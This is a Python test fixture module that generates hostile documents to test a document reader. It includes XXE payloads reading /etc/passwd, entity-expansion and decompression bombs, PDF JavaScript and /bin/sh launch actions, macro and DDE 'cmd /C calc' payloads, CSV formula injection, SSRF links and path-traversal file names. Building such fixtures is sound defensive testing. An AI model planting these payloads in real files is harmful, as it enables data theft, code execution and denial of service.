"""Files that were made to harm who reads them, of each kind. They are made when they are needed.

Each names an address to which it tries to make its reader connect, or none.
"""

import random
import struct
import zlib
from base64 import b64encode
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from chat.documents.reader import files
from tests.support.documents import samples
from tests.support.documents.samples import WORDS, docx, pdf, zipped
from tests.support.widget.pictures import jpeg, png

ENTITY = '<!DOCTYPE a [<!ENTITY f SYSTEM "{}">]>'
OWN_FILE = "file:///etc/passwd"
LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
)
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "{}/a.dtd"> %p;]>'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
RELATIONSHIP = samples.R


@dataclass(frozen=True)
class HostileFile:
    name: str
    of: Callable[[str], bytes]  # of an address


def with_prolog(prolog: str, body: str) -> bytes:
    """Return a Word file whose text begins with a prolog."""
    document = f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{samples.W}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>'
    return samples._package(
        "word/document.xml", "wordprocessingml.document", {"word/document.xml": document}
    )


def changed(archive: bytes, **parts: str | bytes) -> bytes:
    """Return a zipped document with other or more parts, by the ends of their names."""
    with ZipFile(BytesIO(archive)) as read:
        contents: dict[str, str | bytes] = {each: read.read(each) for each in read.namelist()}
    for end, content in parts.items():
        name = next((each for each in contents if each.rpartition("/")[2] == end), end)
        contents[name] = content
    return zipped(contents)


def _linked_docx(url: str) -> bytes:
    relations = f'<Relationships xmlns="{samples.RELATIONS}">' + "".join(
        f'<Relationship Id="r{at}" Type="{RELATIONSHIP}/{kind}" TargetMode="External" Target="{url}/{kind}"/>'
        for at, kind in enumerate(
            ("attachedTemplate", "image", "oleObject", "subDocument", "frame")
        )
    )
    body = f'<w:p><w:r><w:t>{WORDS}</w:t></w:r><w:subDoc xmlns:r="{RELATIONSHIP}" r:id="r3"/></w:p><w:altChunk xmlns:r="{RELATIONSHIP}" r:id="r4"/>'
    document = f'<w:document xmlns:w="{samples.W}"><w:body>{body}</w:body></w:document>'
    parts = {
        "word/document.xml": document,
        "word/_rels/document.xml.rels": relations + "</Relationships>",
        "word/settings.xml": f'<w:settings xmlns:w="{samples.W}"/>',
        "word/_rels/settings.xml.rels": relations + "</Relationships>",
    }
    return samples._package("word/document.xml", "wordprocessingml.document", parts)


def _linked_xlsx(url: str) -> bytes:
    connection = f'<connections xmlns="{samples.S}"><connection id="1" name="x" type="4" refreshOnLoad="1"><webPr url="{url}/data"/></connection></connections>'
    link = f'<externalLink xmlns="{samples.S}"/>'
    relations = f'<Relationships xmlns="{samples.RELATIONS}"><Relationship Id="rId1" Type="{RELATIONSHIP}/externalLinkPath" Target="{url}/book.xlsx" TargetMode="External"/></Relationships>'
    cell = f'<c r="A1" t="str"><f>WEBSERVICE("{url}/f")</f><v>{WORDS}</v></c><c r="B1"><f>cmd|\' /C calc\'!A0</f><v>1</v></c>'
    sheet = (
        f'<worksheet xmlns="{samples.S}"><sheetData><row r="1">{cell}</row></sheetData></worksheet>'
    )
    return changed(
        samples.xlsx(),
        **{
            "sheet1.xml": sheet,
            "xl/connections.xml": connection,
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations,
        },
    )


def _far_cells(_url: str) -> bytes:
    cell = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    dimension = '<dimension ref="A1:XFD1048576"/>'
    sheet = f'<worksheet xmlns="{samples.S}">{dimension}<sheetData>{cell}</sheetData></worksheet>'
    return changed(samples.xlsx(), **{"sheet1.xml": sheet})


def _macros(_url: str) -> bytes:
    code = files.OLE + b'Attribute VB_Name\0AutoOpen() Shell "calc"' + bytes(5000)
    return changed(docx(), **{"word/vbaProject.bin": code})


def _epub(url: str) -> bytes:
    chapter = f'{ENTITY.format(OWN_FILE)}<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="{url}/a.css"/></head><body><img src="{url}/a.png"/><object data="../../../etc/passwd"/><p>{WORDS} &f;</p></body></html>'
    container = '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="a.opf" media-type="application/oebps-package+xml"/><rootfile full-path="../../etc/passwd" media-type="application/oebps-package+xml"/></rootfiles></container>'
    return changed(samples.epub(), **{"c.xhtml": chapter, "container.xml": container})


def _pdf_with_actions(url: str) -> bytes:
    actions = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{url}/js'\\)) >> /AA << /WC << /S /URI /URI ({url}/uri) >> /O << /S /Launch /F (/bin/sh) >> >>"
    return pdf(WORDS).replace(b"/Type /Catalog", b"/Type /Catalog " + actions.encode())


def _pdf_bomb(_url: str) -> bytes:
    stream = zlib.compress(b"BT (x) Tj ET " * 20_000_000, 9)
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(stream), stream)
    drawn = b"<< /Length %d >>\nstream\n%b\nendstream"
    text = f"BT /F1 12 Tf 50 700 Td ({WORDS}) Tj ET".encode()
    return pdf(WORDS).replace(drawn % (len(text), text), body)


def _png_bomb(_url: str) -> bytes:
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    pixels = zlib.compress(bytes(200_000_000), 9)
    parts = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in ((b"IHDR", header), (b"IDAT", pixels), (b"IEND", b""))
    )
    return b"\x89PNG\r\n\x1a\n" + parts


def _photograph(_url: str) -> bytes:
    place = (
        b"Exif\0\0MM\0*\0\0\0\x08\0\1\x88\x25\0\4\0\0\0\1\0\0\0\x1a\0\0\0\0GPSLatitude 52.5200 N"
    )
    picture = jpeg(64, 48)
    return picture[:2] + b"\xff\xe1" + struct.pack(">H", len(place) + 2) + place + picture[2:]


def _html(url: str) -> bytes:
    return f"""<html><head><meta http-equiv="refresh" content="0;url={url}/r"><base href="{url}/">
<link rel="stylesheet" href="{url}/a.css"><style>@import "{url}/b.css"; p {{background: url({url}/c.png)}}</style>
<script src="{url}/a.js"></script></head><body onload="x()"><img src="{url}/a.png" onerror="x()"><iframe src="{url}/f">
</iframe><object data="{url}/o"></object><video src="{url}/v"></video><p>{WORDS}</p>
<a href="javascript:x()">x</a></body></html>""".encode()


def _svg(url: str) -> bytes:
    inner = (
        f'<script>fetch("{url}")</script><image xlink:href="{url}/a.png"/><text>&f;{WORDS}</text>'
    )
    return (ENTITY.format(OWN_FILE) + SVG.format(inner)).encode()


def _eml(url: str) -> bytes:
    bomb = b64encode(zipped({"a.txt": bytes(30_000_000)})).decode()
    parts = [
        f'Content-Type: text/html\r\n\r\n<img src="{url}/a.png"><p>{WORDS}</p>',
        f'Content-Type: message/external-body; access-type=URL; URL="{url}/body"\r\n\r\n',
        f'Content-Type: application/zip; name="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n{bomb}',
        'Content-Type: text/plain; name="../../etc/x"\r\nContent-Disposition: attachment\r\n\r\nx',
    ]
    body = "".join(f"--b\r\n{each}\r\n" for each in parts)
    return f"From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{body}--b--\r\n".encode()


def _nested_eml(_url: str) -> bytes:
    head = "From: a@b.example\r\nMIME-Version: 1.0\r\n"
    text = f"{head}Content-Type: text/plain\r\n\r\n{WORDS}\r\n"
    for at in range(2000):
        text = f'{head}Content-Type: multipart/mixed; boundary="b{at}"\r\n\r\n--b{at}\r\nContent-Type: message/rfc822\r\n\r\n{text[-2_000_000:]}\r\n--b{at}--\r\n'
        if len(text) > 1_500_000:
            break
    return text.encode()


def _nested_zip(_url: str) -> bytes:
    content = zipped({"0.txt": bytes(100_000_000)})
    for at in range(5):
        content = zipped({f"{at}-{copy}.zip": content for copy in range(10)})
    return content


def _zip_of_names(_url: str) -> bytes:
    sink = BytesIO()
    names = ["../../../etc/cron.d/x.txt", "/etc/passwd.txt", "C:\\x.txt", "a\u202etxt.exe", "CON.txt", "\n.txt", "x" * 3000 + ".txt", "a/" * 200 + "b.txt", "same.txt", "sama.txt", " .txt", "<script>alert(1)</script>.txt"]  # fmt: skip
    with ZipFile(sink, "w", ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, WORDS)
    return sink.getvalue().replace(b"sama.txt", b"same.txt")  # twice


def _zip_with_password(_url: str) -> bytes:
    content = bytearray(zipped({"a.txt": WORDS, "b.txt": WORDS}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + place] |= 1
    return bytes(content)


def _overlapping_zip(_url: str) -> bytes:
    """Return a zip file whose directory names the same content many times."""
    content = zipped({"a.txt": bytes(10_000_000)})
    start, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    entry = content[start:end]
    tail = bytearray(content[end:])
    struct.pack_into("<HHL", tail, 8, 900, 900, 900 * len(entry))
    return content[:start] + entry * 900 + bytes(tail)


def _encrypted_pdf(_url: str) -> bytes:
    secret = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%b> /U <%b> /P -4 >> /ID [<00><00>]"
    return pdf(WORDS, more=secret % (b"ab" * 32, b"cd" * 32))


#: By what they are.
HOSTILE: dict[str, HostileFile] = {
    "a bomb": HostileFile("a.docx", lambda _url: docx("x" * 300_000_000)),
    "formatting in elements": HostileFile("a.html", lambda _url: b"<div><b>" * 60_000),
    "a bomb in a table": HostileFile("a.xlsx", lambda _url: samples.xlsx("<t>y</t>" * 3_000_000)),
    "an external entity": HostileFile("a.docx", lambda _url: with_prolog(ENTITY.format(OWN_FILE), "&f;")),
    "entities of entities": HostileFile("a.docx", lambda _url: with_prolog(LAUGHS, "&a11;")),
    "elements in elements": HostileFile("a.docx", lambda _url: docx("<w:ins>" * 200_000)),
    "pages in pages": HostileFile("a.pdf", lambda _url: pdf("x").replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]")),
    "a thousand million pages": HostileFile("a.pdf", lambda _url: pdf("x").replace(b"/Count 1", b"/Count 1000000000")),
    "ten thousand pages": HostileFile("a.pdf", lambda _url: pdf(*[WORDS] * 10_000)),
    "a bomb in a page": HostileFile("a.pdf", _pdf_bomb),
    "a PDF with actions": HostileFile("a.pdf", _pdf_with_actions),
    "a PDF with a password": HostileFile("a.pdf", _encrypted_pdf),
    "a truncated PDF": HostileFile("a.pdf", lambda _url: pdf(*[WORDS] * 9)[:900]),
    "a PDF that is a ZIP file": HostileFile("a.pdf", lambda _url: pdf(WORDS) + zipped({"a.txt": "x"})),
    "a ZIP file that is a PDF": HostileFile("a.zip", lambda _url: pdf(WORDS) + zipped({"a.txt": "x"})),
    "a truncated document": HostileFile("a.docx", lambda _url: docx()[:-100]),
    "a truncated table": HostileFile("a.xlsx", lambda _url: samples.xlsx()[:700]),
    "a table with a password": HostileFile("a.xlsx", lambda _url: files.OLE + bytes(500) + files.ENCRYPTED_OFFICE),
    "an external entity over the network": HostileFile("a.docx", lambda url: with_prolog(ENTITY.format(f"{url}/e"), "&f;")),
    "a document type over the network": HostileFile("a.docx", lambda url: with_prolog(PARAMETER.format(url), WORDS)),
    "external relationships": HostileFile("a.docx", _linked_docx),
    "external data in a table": HostileFile("a.xlsx", _linked_xlsx),
    "cells far away": HostileFile("a.xlsx", _far_cells),
    "laughs in a table": HostileFile("a.xlsx", lambda _url: changed(samples.xlsx(), **{"sheet1.xml": f'{LAUGHS}<worksheet xmlns="{samples.S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a11;</t></is></c></row></sheetData></worksheet>'})),
    "macros": HostileFile("a.docm", _macros),
    "laughs in a presentation": HostileFile("a.odp", lambda _url: changed(samples.odp(), **{"content.xml": f"{LAUGHS}<a>&a11;</a>"})),
    "an entity in OpenDocument": HostileFile("a.odt", lambda url: changed(samples.odt(), **{"content.xml": f'{ENTITY.format(url)}<office:document-content xmlns:office="{samples.OFFICE}" xmlns:text="{samples.TEXT}"><office:body><office:text><text:p>&f;</text:p></office:text></office:body></office:document-content>'})),
    "a book with entities and links": HostileFile("a.epub", _epub),
    "a drawing with a script": HostileFile("a.svg", _svg),
    "a web page with everything": HostileFile("a.html", _html),
    "divisions in divisions": HostileFile("a.html", lambda _url: b"<div>" * 300_000 + WORDS.encode()),
    "attributes without end": HostileFile("a.html", lambda _url: b"<p " + b"a=1 " * 2_000_000),
    "an email with attachments": HostileFile("a.eml", _eml),
    "emails in emails": HostileFile("a.eml", _nested_eml),
    "groups in groups": HostileFile("a.rtf", lambda _url: b"{\\rtf1" + b"{" * 1_000_000 + WORDS.encode()),
    "a remote template": HostileFile("a.rtf", lambda url: f"{{\\rtf1{{\\*\\template {url}/t}}{{\\field{{\\*\\fldinst INCLUDEPICTURE {url}/p}}}}{{\\object\\objupdate\\objdata 0105}} {WORDS}}}".encode()),
    "formulas": HostileFile("a.csv", lambda url: f"name,sum\n=HYPERLINK(\"{url}\"),=1+1\n@SUM(A1),-2+3+cmd|' /C calc'!A0\n".encode()),
    "a photograph with a place": HostileFile("a.jpg", _photograph),
    "a bomb of pixels": HostileFile("a.png", _png_bomb),
    "a picture that is a web page": HostileFile("a.html", lambda url: png() + _html(url)),
    "random bytes of Office": HostileFile("a.doc", lambda _url: files.OLE + random.Random(1).randbytes(2_000_000)),
    "an old presentation in a circle": HostileFile("a.ppt", lambda _url: files.OLE + struct.pack("<I", 0) * 100_000),
    "NUL": HostileFile("a.txt", lambda _url: b"\0" * 5_000_000),
    "marks on a letter": HostileFile("a.txt", lambda _url: ("a" + "\u0300" * 3_000_000).encode()),
    "a line without end": HostileFile("a.md", lambda _url: b"`" * 5_000_000),
    "halves of characters": HostileFile("a.txt", lambda _url: b"\xff\xfe" + b"\x00\xd8" * 500_000),
    "lists in lists": HostileFile("a.json", lambda _url: b"[" * 5_000_000),
    "a bomb of a ZIP file": HostileFile("a.zip", lambda _url: zipped({"a.txt": bytes(400_000_000)})),
    "ZIP files in ZIP files": HostileFile("a.zip", _nested_zip),
    "ZIP with the same content often": HostileFile("a.zip", _overlapping_zip),
    "ZIP with a password": HostileFile("a.zip", _zip_with_password),
    "ZIP with names": HostileFile("a.zip", _zip_of_names),
    "ZIP with many names": HostileFile("a.zip", lambda _url: zipped({f"{at}.txt": "x" for at in range(1100)})),
    "a truncated ZIP file": HostileFile("a.zip", lambda _url: zipped({"a.txt": WORDS * 99})[:-30]),
    "a name that turns around": HostileFile("a\u202etxt.exe", lambda _url: WORDS.encode()),
    "a name with folders": HostileFile("..\\../../etc/x.txt", lambda _url: WORDS.encode()),
}  # fmt: skip
